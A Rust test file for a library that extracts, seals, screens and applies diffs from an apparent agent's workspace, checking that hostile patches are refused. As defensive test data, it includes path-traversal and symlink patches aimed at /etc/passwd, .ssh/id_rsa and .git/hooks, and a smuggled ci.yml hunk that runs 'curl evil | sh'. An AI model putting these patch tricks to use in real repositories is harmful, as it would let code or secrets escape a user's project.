//! Diffs against real git: extraction in a workspace, screening and atomic apply.

use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::process::{Command, Stdio};

use ash_pack::{
    ApplyOptions, Conflict, DiffError, DiffSummary, Expect, FileChange, Git, GitOutput, JobId,
    apply, baseline, extract, open_diff, screen, seal_diff,
};
use pretty_assertions::assert_eq;

use crate::package::{alice, bob, to};
use crate::{git, write_tree};

/// Git run directly (the binary runs it through ash-sandbox), with a clean environment.
pub(crate) struct StdGit;

impl Git for StdGit {
    fn run(
        &self,
        cwd: &Path,
        args: &[String],
        env: &[(String, String)],
        stdin: &[u8],
    ) -> Result<GitOutput, String> {
        let mut child = Command::new("git")
            .args(args)
            .current_dir(cwd)
            .env_clear()
            .env("PATH", "/usr/local/bin:/usr/bin:/bin")
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .envs(env.iter().map(|(k, v)| (k, v)))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .map_err(|e| e.to_string())?;
        use std::io::Write as _;
        child.stdin.take().unwrap().write_all(stdin).map_err(|e| e.to_string())?;
        let out = child.wait_with_output().map_err(|e| e.to_string())?;
        Ok(GitOutput { success: out.status.success(), stdout: out.stdout, stderr: out.stderr })
    }
}

fn copy_tree(from: &Path, to: &Path) {
    let status =
        Command::new("cp").arg("-a").arg(format!("{}/.", from.display())).arg(to).status().unwrap();
    assert!(status.success());
}

/// Files, links and modes of a tree (without `.git`), for whole-tree comparisons.
fn listing(root: &Path) -> Vec<(String, u32, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for item in std::fs::read_dir(&dir).unwrap() {
            let item = item.unwrap();
            let path = item.path();
            let rel = path.strip_prefix(root).unwrap().display().to_string();
            if rel == ".git" {
                continue;
            }
            let meta = std::fs::symlink_metadata(&path).unwrap();
            if meta.is_dir() {
                stack.push(path);
            } else if meta.file_type().is_symlink() {
                out.push((
                    rel,
                    0o120000,
                    std::fs::read_link(&path).unwrap().display().to_string().into_bytes(),
                ));
            } else {
                out.push((rel, meta.permissions().mode() & 0o111, std::fs::read(&path).unwrap()));
            }
        }
    }
    out.sort();
    out
}

const BASE: &[(&str, &str)] = &[
    ("src/lib.rs", "pub fn one() -> u32 {\n    1\n}\n"),
    ("README.md", "# demo\n"),
    ("old name.txt", "this file will be renamed\nwith enough lines\nto be detected\nas a rename\n"),
    ("gone.txt", "deleted by the agent\n"),
    ("run.sh", "#!/bin/sh\necho hi\n"),
    (".gitignore", "target/\n"),
];

#[test]
fn extract_captures_everything_and_apply_reproduces_it() {
    let dir = tempfile::tempdir().unwrap();
    let (requester, workspace, git_dir) =
        (dir.path().join("req"), dir.path().join("ws"), dir.path().join("base.git"));
    std::fs::create_dir_all(&requester).unwrap();
    write_tree(&requester, BASE);
    std::fs::create_dir_all(&workspace).unwrap();
    copy_tree(&requester, &workspace);
    let base = baseline(&StdGit, &workspace, &git_dir).unwrap();

    // The agent: edits, a binary file, a deletion, a rename, a mode change, a symlink, an
    // ignored build output, and commits of its own in its own repository.
    git(&workspace, &["init", "-q"]);
    std::fs::write(
        workspace.join("src/lib.rs"),
        "pub fn one() -> u32 {\n    2\n}\n\npub fn two() {}\n",
    )
    .unwrap();
    std::fs::write(workspace.join("logo.png"), [0x89, b'P', b'N', b'G', 0, 1, 2, 255, 0, 7])
        .unwrap();
    std::fs::remove_file(workspace.join("gone.txt")).unwrap();
    std::fs::rename(workspace.join("old name.txt"), workspace.join("new name.txt")).unwrap();
    std::fs::set_permissions(workspace.join("run.sh"), std::fs::Permissions::from_mode(0o755))
        .unwrap();
    std::os::unix::fs::symlink("src/lib.rs", workspace.join("lib-link")).unwrap();
    write_tree(
        &workspace,
        &[("target/debug/out", "build output"), ("docs/guide.md", "committed by the agent\n")],
    );
    git(&workspace, &["add", "-A"]);
    git(&workspace, &["commit", "-qm", "agent work"]);

    let diff = extract(&StdGit, &workspace, &base).unwrap();
    let change = |path: &str, from: Option<&str>, added, removed| FileChange {
        path: path.to_owned(),
        renamed_from: from.map(str::to_owned),
        added,
        removed,
    };
    assert_eq!(
        diff.summary,
        DiffSummary {
            files: vec![
                change("docs/guide.md", None, Some(1), Some(0)),
                change("gone.txt", None, Some(0), Some(1)),
                change("lib-link", None, Some(1), Some(0)),
                change("logo.png", None, None, None),
                change("new name.txt", Some("old name.txt"), Some(0), Some(0)),
                change("run.sh", None, Some(0), Some(0)),
                change("src/lib.rs", None, Some(3), Some(1)),
            ],
            insertions: 5,
            deletions: 2,
        }
    );
    // Sealed for the requester and back.
    let sealed = seal_diff(&diff.patch, &bob(), &to(&alice()), JobId([3; 16])).unwrap();
    let (header, patch) = open_diff(&sealed[..], &alice(), Expect::default(), 64 << 20).unwrap();
    assert_eq!((header.sender, patch.as_slice()), (bob().node_id(), diff.patch.as_slice()));

    let check =
        apply(&StdGit, &requester, &patch, ApplyOptions { check_only: true, three_way: false })
            .unwrap();
    assert!(!check.changed);
    assert_eq!(listing(&requester).len(), BASE.len());
    apply(&StdGit, &requester, &patch, ApplyOptions::default()).unwrap();
    let mut expected = listing(&workspace);
    expected.retain(|(p, ..)| !p.starts_with("target/"));
    assert_eq!(listing(&requester), expected);
}

#[test]
fn conflicts_are_reported_per_file_and_nothing_changes() {
    let dir = tempfile::tempdir().unwrap();
    let (requester, workspace, git_dir) =
        (dir.path().join("req"), dir.path().join("ws"), dir.path().join("b.git"));
    std::fs::create_dir_all(&requester).unwrap();
    std::fs::create_dir_all(&workspace).unwrap();
    write_tree(&requester, BASE);
    copy_tree(&requester, &workspace);
    let base = baseline(&StdGit, &workspace, &git_dir).unwrap();
    std::fs::write(workspace.join("README.md"), "# demo\nmore\n").unwrap();
    std::fs::write(workspace.join("src/lib.rs"), "pub fn one() -> u32 {\n    3\n}\n").unwrap();
    let diff = extract(&StdGit, &workspace, &base).unwrap();
    // Meanwhile the user changed lib.rs.
    std::fs::write(requester.join("src/lib.rs"), "pub fn uno() -> u32 {\n    1\n}\n").unwrap();
    let before = listing(&requester);
    let err = apply(&StdGit, &requester, &diff.patch, ApplyOptions::default()).unwrap_err();
    let DiffError::Conflicts(conflicts) = &err else { panic!("{err}") };
    assert_eq!(
        conflicts,
        &vec![Conflict {
            path: "src/lib.rs".to_owned(),
            messages: vec![
                "patch failed: src/lib.rs:1".to_owned(),
                "src/lib.rs: patch does not apply".to_owned()
            ],
        }]
    );
    assert_eq!(
        err.to_string(),
        "the patch does not apply; nothing was changed (1 file(s) conflict)"
    );
    assert_eq!(listing(&requester), before, "README.md must not be half-applied");

    // --3way needs a repository; in one, git merges where it can.
    let err = apply(
        &StdGit,
        &requester,
        &diff.patch,
        ApplyOptions { check_only: false, three_way: true },
    )
    .unwrap_err();
    assert_eq!(err.to_string(), "--3way needs the tree to be the root of a git repository");
}

fn hunk_file(path: &str) -> String {
    format!(
        "diff --git a/{path} b/{path}\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+owned\n"
    )
}

#[test]
fn hostile_patches_are_refused_before_any_write() {
    let link = |target: &str| {
        format!(
            "diff --git a/l b/l\nnew file mode 120000\nindex 0000000..1111111\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+{target}\n\\ No newline at end of file\n"
        )
    };
    let cases: Vec<(String, String)> = vec![
        (hunk_file("../outside.txt"), "patch refused: ../outside.txt: `.` or `..` component".to_owned()),
        (hunk_file("a/../../outside.txt"), "patch refused: a/../../outside.txt: `.` or `..` component".to_owned()),
        (
            "diff --git a/x b/x\n--- a/x\n+++ b//etc/passwd\n@@ -1 +1 @@\n-a\n+b\n".to_owned(),
            "patch refused: /etc/passwd: absolute path".to_owned(),
        ),
        (hunk_file(".git/hooks/post-checkout"), "patch refused: .git/hooks/post-checkout: `.git` component".to_owned()),
        (
            "diff --git \"a/x\\033[2J\" \"b/x\\033[2J\"\nnew file mode 100644\n--- /dev/null\n+++ \"b/x\\033[2J\"\n@@ -0,0 +1 @@\n+a\n".to_owned(),
            "patch refused: x\u{1b}[2J: control character in name".to_owned(),
        ),
        (link("/etc/passwd"), "patch refused: l: symlink to `/etc/passwd` leaves the tree".to_owned()),
        (link("../../.ssh/id_rsa"), "patch refused: l: symlink to `../../.ssh/id_rsa` leaves the tree".to_owned()),
        (
            "diff --git a/img.png b/img.png\nindex 1111111..2222222 100644\nBinary files a/img.png and b/img.png differ\n".to_owned(),
            "patch refused: img.png: binary change without data (diff made without --binary)".to_owned(),
        ),
        (
            "diff --git a/sub b/sub\nnew file mode 160000\nindex 0000000..1111111\n--- /dev/null\n+++ b/sub\n@@ -0,0 +1 @@\n+Subproject commit 1111111111111111111111111111111111111111\n".to_owned(),
            "patch refused: sub: submodule changes are not applied".to_owned(),
        ),
        ("--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n".to_owned(), "patch refused: line 1: not a git diff (no `diff --git` header)".to_owned()),
        ("just some text\n".to_owned(), "patch refused: line 1: not a git diff (no `diff --git` header)".to_owned()),
    ];
    let dir = tempfile::tempdir().unwrap();
    let tree = dir.path().join("tree");
    std::fs::create_dir(&tree).unwrap();
    write_tree(&tree, &[("x", "a\n")]);
    for (patch, want) in cases {
        let err = apply(&StdGit, &tree, patch.as_bytes(), ApplyOptions::default()).unwrap_err();
        assert_eq!(err.to_string(), want, "{patch}");
        assert_eq!(listing(&tree), vec![("x".to_owned(), 0, b"a\n".to_vec())]);
        assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 1, "wrote beside the tree");
    }
    // A safe link and a nested path pass the screen.
    let files = screen(format!("{}{}", link("x"), hunk_file("deep/new.txt")).as_bytes()).unwrap();
    assert_eq!(files.len(), 2);
    assert_eq!(files[0].link_target.as_deref(), Some("x"));
}

#[test]
fn sealed_diffs_are_bound_to_recipient_and_size() {
    let sealed = seal_diff(b"diff --git a/x b/x\n", &bob(), &to(&alice()), JobId([1; 16])).unwrap();
    let err = open_diff(&sealed[..], &bob(), Expect::default(), 1024).unwrap_err();
    assert_eq!(
        err.to_string(),
        format!("sealed to {}, not to this identity ({})", alice().node_id(), bob().node_id())
    );
    let err = open_diff(&sealed[..], &alice(), Expect::default(), 4).unwrap_err();
    assert_eq!(err.to_string(), "the diff is larger than the limit of 4 bytes");
    let mut flipped = sealed;
    let last = flipped.len() - 1;
    flipped[last] ^= 1;
    let err = open_diff(&flipped[..], &alice(), Expect::default(), 1024).unwrap_err();
    assert_eq!(
        err.to_string(),
        "chunk 0 failed authentication: the file was changed, cut or reordered"
    );
}

#[test]
fn a_patch_cannot_retarget_a_link_smuggle_one_in_binary_or_hide_a_section() {
    let dir = tempfile::tempdir().unwrap();
    let tree = dir.path().join("tree");
    std::fs::create_dir(&tree).unwrap();
    write_tree(&tree, &[("a.txt", "a\n"), ("ci.yml", "ci: ok\n"), ("x", "x\n")]);
    std::os::unix::fs::symlink("x", tree.join("link")).unwrap();
    git(&tree, &["init", "-q"]);
    git(&tree, &["add", "-A"]);
    git(&tree, &["commit", "-qm", "base"]);
    // A1: git writes an existing link's mode on the `index` line only.
    std::fs::remove_file(tree.join("link")).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", tree.join("link")).unwrap();
    let retarget = git(&tree, &["diff", "--binary"]);
    assert!(String::from_utf8_lossy(&retarget).contains(" 120000\n"), "{retarget:?}");
    git(&tree, &["checkout", "-q", "--", "link"]);
    let before = listing(&tree);
    let cases: Vec<(Vec<u8>, &str)> = vec![
        (retarget, "patch refused: link: symlink to `/etc/passwd` leaves the tree"),
        // A2: a link created by a binary literal.
        (
            b"diff --git a/evil b/evil\nnew file mode 120000\nindex 0000000..1111111\nGIT binary patch\nliteral 10\nRcmZ?wbaLaGZ~z4W0C|>H\n\nliteral 0\nHcmV?d00001\n\n".to_vec(),
            "patch refused: evil: a symlink in a binary patch (its target cannot be checked)",
        ),
        // A3: after a hunk's counted lines, git reads a new patch.
        (
            b"diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-a\n+b\n--- a/ci.yml\n+++ b/ci.yml\n@@ -1 +1 @@\n-ci: ok\n+ci: curl evil | sh\n".to_vec(),
            "patch refused: line 7: a second patch inside one file's section",
        ),
        // A hunk that holds more than its header counts.
        (
            b"diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-a\n+b\n+c\n".to_vec(),
            "patch refused: line 7: a hunk holds more lines than its header counts",
        ),
        // CRLF line ends: the hunk header is not git's.
        (
            b"diff --git a/a.txt b/a.txt\r\n--- a/a.txt\r\n+++ b/a.txt\r\n@@ -1 +1 @@\r\n-a\r\n+b\r\n".to_vec(),
            "patch refused: line 4: cannot read a hunk header",
        ),
    ];
    for (patch, want) in cases {
        let err = apply(&StdGit, &tree, &patch, ApplyOptions::default()).unwrap_err();
        assert_eq!(err.to_string(), want, "{}", String::from_utf8_lossy(&patch));
        assert_eq!(listing(&tree), before);
    }
    // A link moved to a shallower directory, where its relative target leaves the tree.
    std::fs::create_dir(tree.join("sub")).unwrap();
    std::os::unix::fs::symlink("../x", tree.join("sub/up")).unwrap();
    git(&tree, &["add", "-A"]);
    git(&tree, &["commit", "-qm", "a link in a subdirectory"]);
    git(&tree, &["mv", "sub/up", "up"]);
    let moved = git(&tree, &["diff", "--cached", "--binary", "-M"]);
    git(&tree, &["reset", "-q", "--hard"]);
    let before = listing(&tree);
    let err = apply(&StdGit, &tree, &moved, ApplyOptions::default()).unwrap_err();
    assert_eq!(err.to_string(), "patch refused: up: symlink to `../x` moved here leaves the tree");
    assert_eq!(listing(&tree), before);
    // Renaming a link and changing a file's mode still pass, as git reads them.
    std::fs::rename(tree.join("link"), tree.join("link2")).unwrap();
    std::fs::set_permissions(tree.join("a.txt"), std::fs::Permissions::from_mode(0o755)).unwrap();
    git(&tree, &["add", "-A"]);
    let patch = git(&tree, &["diff", "--cached", "--binary", "-M"]);
    git(&tree, &["reset", "-q", "--hard"]);
    let applied = apply(&StdGit, &tree, &patch, ApplyOptions::default()).unwrap();
    assert_eq!(applied.files.len(), 2, "{applied:?}");
    assert_eq!(std::fs::read_link(tree.join("link2")).unwrap(), Path::new("x"));
}

#[test]
fn targets_that_run_code_are_marked_with_the_reason() {
    let exec = "diff --git a/tools/run b/tools/run\nnew file mode 100755\nindex 0000000..1111111\n--- /dev/null\n+++ b/tools/run\n@@ -0,0 +1 @@\n+owned\n";
    let paths = [
        "src/lib.rs",
        ".github/workflows/ci.yml",
        ".gitlab-ci.yml",
        "crates/x/build.rs",
        "web/package.json",
        "pyproject.toml",
        "Makefile",
        ".envrc",
        ".vscode/tasks.json",
        ".gitattributes",
        "deleted.txt",
    ];
    let mut patch: String = paths.iter().map(|p| hunk_file(p)).collect();
    patch.push_str(exec);
    patch.push_str("diff --git a/.github/workflows/old.yml b/.github/workflows/old.yml\ndeleted file mode 100644\nindex 1111111..0000000\n--- a/.github/workflows/old.yml\n+++ /dev/null\n@@ -1 +0,0 @@\n-old\n");
    let marks: Vec<(String, Option<&str>)> = screen(patch.as_bytes())
        .unwrap()
        .into_iter()
        .map(|f| (f.new_path.or(f.old_path).unwrap(), f.sensitive))
        .collect();
    assert_eq!(
        marks,
        vec![
            ("src/lib.rs".to_owned(), None),
            (".github/workflows/ci.yml".to_owned(), Some("CI workflow: runs on the forge")),
            (".gitlab-ci.yml".to_owned(), Some("CI configuration: runs on the CI service")),
            ("crates/x/build.rs".to_owned(), Some("build script: cargo runs it on build")),
            (
                "web/package.json".to_owned(),
                Some("package manifest: its scripts run on install and build")
            ),
            (
                "pyproject.toml".to_owned(),
                Some("Python package configuration: runs or configures code on install")
            ),
            ("Makefile".to_owned(), Some("build rules: run by the build")),
            (".envrc".to_owned(), Some("direnv: runs on entering the directory")),
            (".vscode/tasks.json".to_owned(), Some("editor configuration: tasks it runs")),
            (
                ".gitattributes".to_owned(),
                Some("git attributes: filters and diff drivers git runs")
            ),
            ("deleted.txt".to_owned(), None),
            ("tools/run".to_owned(), Some("becomes executable")),
            // Deleting is not writing: nothing to run.
            (".github/workflows/old.yml".to_owned(), None),
        ]
    );
}
